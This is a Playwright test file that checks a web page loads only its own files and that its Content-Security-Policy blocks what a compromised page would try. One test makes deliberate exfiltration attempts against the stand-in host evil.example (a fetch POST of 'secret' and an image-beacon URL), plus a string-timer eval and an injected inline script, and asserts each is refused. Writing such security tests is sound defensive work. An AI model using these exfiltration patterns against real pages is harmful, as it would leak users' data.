import { test, expect } from '../fixtures/test';
import { TRAILING_SLASH } from '../fixtures/cases';

// The guard fixture (fixtures/test.ts) already fails any test on a request to another origin,
// a CSP violation, or a console or page error. These tests make sure it has something to see.

test('loading and using the page requests nothing but its own files', async ({ analyzer, guard, page }) => {
  await analyzer.open();
  await analyzer.fill(TRAILING_SLASH);
  await analyzer.expectStatus('mismatch');
  await page.waitForLoadState('networkidle');

  const origin = new URL(page.url()).origin;
  const paths = guard.requests.map((url) => new URL(url)).map((url) => `${url.origin}${url.pathname}`);
  expect(paths.some((path) => path.endsWith('.wasm')), 'the page fetched its own wasm').toBe(true);
  for (const path of paths) expect(path.startsWith(`${origin}/`)).toBe(true);
  expect(guard.violations).toEqual([]);
});

test('the Content-Security-Policy blocks what a compromised page would try', async ({ analyzer, guard, page }) => {
  await analyzer.open();
  guard.excuse(/evil\.example|Refused to|unsafe-eval|CSP violation/);

  const attempts = await page.evaluate(async () => {
    const results: Record<string, boolean> = {};
    try {
      await fetch('https://evil.example/collect', { method: 'POST', body: 'secret' });
      results.fetchBlocked = false;
    } catch {
      results.fetchBlocked = true;
    }
    // A string timer is eval in disguise; script-src without 'unsafe-eval' refuses it.
    // (eval() itself cannot be checked from here: the test driver's own evaluation bypasses CSP.)
    setTimeout('window.__timerRan = true', 0);
    const image = new Image();
    image.src = 'https://evil.example/pixel.gif?secret';
    await new Promise((resolve) => setTimeout(resolve, 100));
    results.timerBlocked = !('__timerRan' in window);
    const marker = '__inlineRan';
    const script = document.createElement('script');
    script.textContent = `window.${marker} = true;`;
    document.head.appendChild(script);
    results.inlineBlocked = !(marker in window);
    return results;
  });

  expect(attempts).toEqual({ fetchBlocked: true, timerBlocked: true, inlineBlocked: true });
  // The fetch failed because the policy refused it, not because the network is down.
  await expect
    .poll(() => guard.violations.map((violation) => violation.directive).sort())
    .toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src', 'script-src-elem']));
  // The browser may announce an attempt, but every one was stopped before the network.
  const attempted = guard.requests.filter((url) => url.includes('evil.example'));
  for (const url of attempted) {
    expect(guard.failures.find((failure) => failure.url === url)?.error).toMatch(/csp/i);
  }
});
